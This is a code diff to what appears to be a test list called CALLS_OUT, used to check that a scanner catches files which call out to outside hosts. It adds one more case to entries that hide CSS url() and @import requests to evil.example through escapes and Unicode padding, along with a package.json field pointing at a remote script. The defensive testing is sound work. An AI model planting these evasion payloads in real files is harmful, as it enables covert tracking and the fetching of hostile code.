@@ -78,6 +78,7 @@ CALLS_OUT = [
     ("a.md", '<b style="background: url(https:\\00002F\\00002Fevil.example/s)">'),
     ("a.md", f"<b style='background: url(\\ffffff \\110000 {EVIL})'>"),
     ("a.md", f"<style>\n@import url({EVIL});</style>"),
+    ("a.md", "İ" * 80 + f"<STYLE>@import '{EVIL}';</STYLE>"),
     ("a.md", "<p style='background:\\75rl(https:\\/\\/evil.example)'>x</p>"),
     ("a.md", f"<p style=\"background-image:image-set('{EVIL}' 1x)\">x</p>"),
     ("package.json", '{"packageManager": "yarn@https://evil.example/y.js"}'),
